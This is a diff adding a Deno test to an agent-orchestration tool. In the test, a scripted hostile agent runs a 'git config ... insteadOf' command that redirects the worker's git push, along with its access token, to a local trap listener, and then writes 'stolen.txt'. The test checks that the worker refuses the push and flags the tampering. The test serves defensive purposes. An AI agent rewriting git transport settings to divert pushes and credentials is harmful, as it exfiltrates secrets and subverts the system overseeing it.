@@ -133,3 +133,68 @@ Deno.test("workers: a run's agents run on a worker that is listed, cordoned and 
     }
   });
 });
+
+Deno.test("workers: a hostile agent rewrites the worker's git config to send the push elsewhere; the worker refuses and the task fails", async () => {
+  await withTempDir(async (dir) => {
+    const repo = join(dir, "repo");
+    await Deno.mkdir(repo);
+    const port = freePort();
+    // Where the agent wants the worker's push (and its token) to go: nothing may arrive.
+    const trap = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+    const trapPort = (trap.addr as Deno.NetAddr).port;
+    let knocked = 0;
+    const trapped = (async () => {
+      for await (const conn of trap) {
+        knocked++;
+        conn.close();
+      }
+    })().catch(() => {});
+    await prepareRepo(
+      repo,
+      `name: w\ncli: scripted\nstages:\n  - name: all\n    steps:\n${
+        step("Redirect", [
+          `@agent run git config url.http://127.0.0.1:${trapPort}/.insteadOf http://127.0.0.1:${port}/`,
+          "@agent write stolen.txt x",
+        ])
+      }\n`,
+      {
+        workers: { listen: `127.0.0.1:${port}`, local_agents: 0 },
+        tuning: { agent: { heartbeat_interval_s: 0.5 }, workers: { poll_wait_s: 1 } },
+      },
+    );
+    const tokenFile = join(dir, "w1.token");
+    strictEqual((await bern(repo, ["workers", "token", "w1", "--out", tokenFile])).code, 0);
+    const worker = new Watched(
+      bernsteinArgv([
+        "worker",
+        "--server",
+        `http://127.0.0.1:${port}`,
+        "--token-file",
+        tokenFile,
+        "--name",
+        "w1",
+        "--dir",
+        join(dir, "w1-state"),
+      ]),
+      { cwd: dir, env: env() },
+    );
+    try {
+      const run = await bern(repo, ["run", "plan.yaml", "--json"]);
+      const summary = summaryOf(run);
+      strictEqual(summary.health, "UNHEALTHY");
+      strictEqual((summary.merges as unknown[]).length, 0);
+      const failed = run.stdout.split("\n").filter((l) => l.includes('"task.failed"')).join("\n");
+      ok(failed.includes("could not push") && failed.includes("insteadof"), failed);
+      strictEqual(knocked, 0, "nothing reached the address the agent planted");
+      ok(
+        worker.errLines.join("\n").includes("workers.config_tampered") ||
+          worker.errLines.join("\n").includes("transport settings nobody here wrote"),
+      );
+    } finally {
+      worker.child.kill("SIGKILL");
+      await worker.done;
+      trap.close();
+      await trapped;
+    }
+  });
+});
